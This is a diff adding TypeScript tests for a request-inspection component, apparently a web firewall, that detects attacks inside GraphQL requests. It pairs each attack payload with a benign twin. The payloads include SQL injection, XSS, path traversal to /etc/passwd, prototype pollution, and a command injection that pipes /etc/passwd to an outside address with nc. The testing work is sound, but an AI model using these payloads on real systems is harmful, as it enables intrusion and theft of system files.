@@ -147,3 +147,127 @@ async function judgeBoth([, type, check, at, attack, benign]: Case): Promise<voi
   expect(denied).toBe(true);
   expect(await judgeRequest({}, bodyOf(type, benign))).toEqual({ denied: false, findings: [] });
 }
+
+const graphql = (name: string): InputLocation => ({ source: 'graphql-value', name });
+const introspection = `
+  query IntrospectionQuery {
+    __schema {
+      queryType { name } mutationType { name } subscriptionType { name }
+      types { ...FullType }
+      directives { name description locations args { ...InputValue } }
+    }
+  }
+  fragment FullType on __Type {
+    kind name description
+    fields(includeDeprecated: true) { name args { ...InputValue } type { ...TypeRef } isDeprecated deprecationReason }
+    inputFields { ...InputValue } interfaces { ...TypeRef }
+    enumValues(includeDeprecated: true) { name } possibleTypes { ...TypeRef }
+  }
+  fragment InputValue on __InputValue { name description type { ...TypeRef } defaultValue }
+  fragment TypeRef on __Type { kind name ofType { kind name ofType { kind name } } }`;
+const shop = `# the customer's own orders; newest -- first
+query Orders($id: ID!, $order: [Sort!] = [{by: DATE, dir: DESC}]) {
+  select: orders(where: {and: [{id: {eq: $id}}, {or: [{name: {like: "O'Neil"}}]}]}, orderBy: $order, limit: 10) {
+    union delete update from(table: "a or b") { exec process(env: "x") { constructor } } ... on Order @include(if: true) { id }
+  }
+}`;
+const graphqlCases: readonly Case[] = [
+  [
+    'a string of a document',
+    'application/graphql',
+    'sqli',
+    graphql('/user/name'),
+    "{ user(name: \"x' OR '1'='1\") { id } }",
+    shop,
+  ],
+  [
+    'a block string with charset',
+    'application/graphql; charset=utf-8',
+    'xss',
+    graphql('/post/input/html'),
+    'mutation { post(input: {html: """<script>alert(1)</script>"""}) { id } }',
+    introspection,
+  ],
+  [
+    'an escaped string of the document in JSON',
+    'application/json',
+    'traversal',
+    graphql('/query/file/path'),
+    JSON.stringify({ query: '{ file(path: "..\\u002f../../etc/passwd") }' }),
+    JSON.stringify({ query: shop, operationName: 'Orders', variables: { id: 'a-7' } }),
+  ],
+  [
+    'a variable',
+    'application/json',
+    'sqli',
+    { source: 'json-value', name: '/variables/name' },
+    JSON.stringify({
+      query: 'query F($name: String) { user(name: $name) { id } }',
+      variables: { name: "x' OR '1'='1" },
+    }),
+    JSON.stringify({ query: introspection, variables: null }),
+  ],
+  [
+    'a batch',
+    'application/graphql+json',
+    'command',
+    graphql('/1/query/ping/host'),
+    JSON.stringify([{ query: shop }, { query: '{ ping(host: "; cat /etc/passwd | nc 203.0.113.9 80") }' }]),
+    JSON.stringify([{ query: shop }, { query: introspection }]),
+  ],
+  [
+    'a name',
+    'application/json',
+    'prototype-pollution',
+    { source: 'graphql-name', name: '/query/set/input/__proto__' },
+    JSON.stringify({ query: 'mutation { set(input: {__proto__: {admin: true}}) }' }),
+    JSON.stringify({ query: '{ __typename set(input: {proto: true}) }' }),
+  ],
+  [
+    'a comment',
+    'application/graphql',
+    'xss',
+    graphql('/a/#'),
+    '{ a # <script>alert(1)</script>\n}',
+    '{ a # <- the script tag is not here\n}',
+  ],
+  [
+    'a document that ends too early',
+    'application/graphql',
+    'sqli',
+    graphql('/user/name'),
+    "{ user(name: \"x' OR '1'='1\") {",
+    '{ user(name: "Neil") {',
+  ],
+  [
+    'what is no document',
+    'application/json',
+    'sqli',
+    { source: 'json-value', name: '/query' },
+    JSON.stringify({ query: "{a}' UNION SELECT password FROM users--" }),
+    JSON.stringify({ query: 'select shoes' }),
+  ],
+];
+
+describe('an attack in GraphQL', () => {
+  it.each(graphqlCases)('as %s (%s) is found by %s and named; its benign twin passes', async (...row) => {
+    await judgeBoth(row);
+  });
+
+  const ofQuery = (query: string): Partial<NormalizedRequest> => ({ method: 'GET', query: [['query', query]] });
+
+  it('in a query parameter is found and named; its benign twins pass', async () => {
+    const { findings } = await judgeRequest({}, ofQuery("{ user(name: \"x' OR '1'='1\") { id } }"));
+    expect(findings.map(({ input }) => input)).toEqual([graphql('query/user/name')]);
+    for (const benign of [shop, introspection, '{ me { id } }', 'query optimisation', "subscription O'Neil"]) {
+      expect(await judgeRequest({}, ofQuery(benign))).toEqual({ denied: false, findings: [] });
+    }
+  });
+
+  it('is no hiding place: what is no document is judged as it stands', async () => {
+    const { findings } = await judgeRequest({}, ofQuery("query{a}' UNION SELECT password FROM users--"));
+    expect(findings.map(({ check, input }) => ({ check, input }))).toEqual([
+      { check: 'sqli', input: { source: 'query-value', name: 'query' } },
+    ]);
+  });
+});
